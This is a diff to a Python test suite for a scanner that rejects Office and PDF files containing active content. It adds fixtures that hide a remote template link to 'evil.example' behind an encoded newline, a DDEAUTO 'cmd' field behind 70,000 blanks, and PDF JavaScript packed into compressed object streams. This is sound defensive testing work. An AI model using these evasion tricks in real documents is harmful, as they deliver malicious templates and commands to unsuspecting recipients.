@@ -21,6 +21,15 @@ from tests.office_documents import (
 )
 
 
+def by_differences(content: bytes, width: int = 8) -> bytes:
+    """A stream of objects with a filter for pictures: a byte before each row of so many."""
+    padded = b"9 0 " + content + b" " * (-len(b"9 0 " + content) % width)
+    rows = (padded[start : start + width] for start in range(0, len(padded), width))
+    packed = zlib.compress(b"".join(b"\0" + row for row in rows))
+    options = b"/DecodeParms<</Predictor 12/Columns %d>>" % width
+    return stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode" + options, packed)
+
+
 def with_code() -> dict[str, tuple[str, str, bytes]]:
     """Documents that run or load something: description -> (code of the refusal, ending, bytes)."""
     macros, objects = "document_macros", "document_objects"
@@ -112,6 +121,11 @@ def with_code() -> dict[str, tuple[str, str, bytes]]:
             "docx",
             word("", related(relationship("oleObject", "mhtml:https://evil.example/!x-usc:"))),
         ),
+        "Word with a template by broken lines": (
+            loads,
+            "docx",
+            word("", related(relationship("attachedTemplate", "ht&#10;tp://evil.example/a.dotm"))),
+        ),
         "Word with a frame": (
             loads,
             "docx",
@@ -123,6 +137,11 @@ def with_code() -> dict[str, tuple[str, str, bytes]]:
             loads,
             "docx",
             word('<w:fldSimple w:instr=" dde cmd"/>'),
+        ),
+        "Word with DDE behind blanks in a part of another name": (
+            loads,
+            "docx",
+            word("", ("word/other.dat", " " * 70_000 + field("DDEAUTO cmd").replace("w:", ""))),
         ),
         "Word with a list that is no XML": (
             unreadable,
@@ -220,6 +239,19 @@ def with_code() -> dict[str, tuple[str, str, bytes]]:
             script,
             "pdf",
             pdf(js, object_stream(SCRIPT.replace(b"J", b"#4A"), kind=b"/Type/Obj#53tm")),
+        ),
+        "PDF with a script in packed objects with a comment": (
+            script,
+            "pdf",
+            pdf(
+                js,
+                stream(b"/N 1/First%x\n4/Filter/FlateDecode", zlib.compress(b"9 0 " + SCRIPT)),
+            ),
+        ),
+        "PDF whose packed objects are written by differences": (
+            unreadable,
+            "pdf",
+            pdf(js, by_differences(SCRIPT)),
         ),
         "PDF with a script behind a comment": (script, "pdf", pdf(js, b"%(https://a\n" + SCRIPT)),
         "PDF that starts a program": (
